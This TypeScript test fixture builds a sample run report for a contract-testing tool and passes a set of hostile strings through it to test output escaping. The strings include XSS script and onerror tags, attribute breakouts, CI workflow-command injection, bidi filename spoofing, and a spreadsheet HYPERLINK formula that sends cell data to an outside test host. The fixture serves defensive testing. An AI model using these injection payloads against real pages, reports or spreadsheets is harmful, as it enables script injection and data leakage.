import type { CellVerdict, Finding } from '../../oracles/finding.ts';
import type { PageSource } from '../page/page-head.ts';
import { cellVerdict, exchange, recordedTarget, runRecord } from './sample-record.ts';

// Runs for tests of pages in this folder. Used only by them.

/** Hostile texts of a service, which retitle the page if they are interpreted. */
export const HOSTILE = {
  script: '<script>document.title="taken"</script>',
  image: '<img src=x onerror=\'document.title="taken"\'>',
  attribute: '" autofocus onfocus="document.title=1',
  closing: ']]></script></style></textarea><!--',
  escapes: '\u001B[31mred\u001B[0m\u0007',
  direction: 'abc\u202Efdp.exe\u200F',
  nul: 'a\u0000b',
  surrogate: 'a\uD800b',
  formula: '=HYPERLINK("http://elsewhere.test/?"&A1)',
  mention: '@everyone a@elsewhere.test http://elsewhere.test/x www.elsewhere.test #1 `@all`',
  command: '\n::error title=taken::taken\r\n::stop-commands::x',
  fence: '\n```\n</code></pre><script>1</script>',
  link: '<a href="http://elsewhere.test/">here</a><link rel=stylesheet href=http://elsewhere.test/x>',
} as const;

/** Ten megabytes in one line. */
export const LONG = 'x'.repeat(10 * 1024 * 1024);

const finding = (more: Partial<Finding>): Finding => ({
  requirement: 'GAP-CONTRACT-02',
  operation: 'gap.contract-create',
  verdict: 'fail',
  wanted: 'a Location header on the 303',
  got: '303 without Location',
  exchanges: [1],
  test: 'contract/gap/1',
  attempt: 1,
  seed: 1234,
  ...more,
});

const body = (text: string) => ({ encoding: 'utf8', text }) as const;
const request = (text: string) => ({ ...exchange().request, body: body(text) });

const CALM = {
  'BODY-01': 'pass',
  'VERSION-02': 'observed',
  'VERSION-03': 'not-applicable',
} as const;

const calm: readonly CellVerdict[] = Object.entries(CALM).map(([requirement, verdict]) =>
  cellVerdict({
    cell: `${requirement}@gap.contract-create`,
    requirement: requirement as keyof typeof CALM,
    verdict,
  }),
);

/** A run with one fail (with control request and repeat), one inconclusive cell, one waived, one error, and passes. */
export const samplePage = (hostile = ''): PageSource => ({
  record: runRecord({
    exitCode: 1,
    target: {
      ...recordedTarget,
      name: `staging ${hostile}`.trim(),
      base_url: 'http://127.0.0.1:1',
    },
  }),
  verdicts: [
    cellVerdict({ got: `303 without Location ${hostile}`, where: `/a${hostile}` }),
    cellVerdict({
      cell: 'GAP-CONTRACT-01@gap.contract-create',
      requirement: 'GAP-CONTRACT-01',
      verdict: 'inconclusive',
      reason: 'blocked-by',
    }),
    cellVerdict({
      cell: 'GAP-CONTRACT-03@gap.contract-create',
      requirement: 'GAP-CONTRACT-03',
      verdict: 'waived',
      waiver: { reason: `PROJ-7 ${hostile}`, owner: 'the contracts team', expires: '2026-12-31' },
    }),
    cellVerdict({
      cell: 'VERSION-01@gap.draft-create',
      requirement: 'VERSION-01',
      operation: 'gap.draft-create',
      verdict: 'error',
      got: 'an error of the harness',
    }),
    ...calm,
  ],
  findings: [
    finding({ twin: 2, got: `303 without Location ${hostile}`, where: `/a${hostile}` }),
    finding({ attempt: 2, exchanges: [3] }),
  ],
  exchanges: [
    exchange({ intent: 'faulty', request: request('{"paymentTerm":"NEVER","n":1}') }),
    exchange({
      n: 2,
      request: request('{"paymentTerm":"YEARLY","n":1}'),
      response: {
        status: 200,
        headers: { 'x-odd': hostile },
        body: body(JSON.stringify({ hostile })),
      },
    }),
    exchange({ n: 3, response: { status: 200, headers: {}, body: body(hostile) } }),
  ],
  points: [],
  causes: [{ sentence: `Travel Draft Create answers 200 ${hostile}`, answer: hostile, cells: [] }],
  curl: () => `curl http://127.0.0.1:1 --data-raw '${hostile}'`,
  replay: ({ requirement }) => `assay replay ${requirement}`,
  script: ({ requirement }) => `assay show ${requirement} --as script`,
});
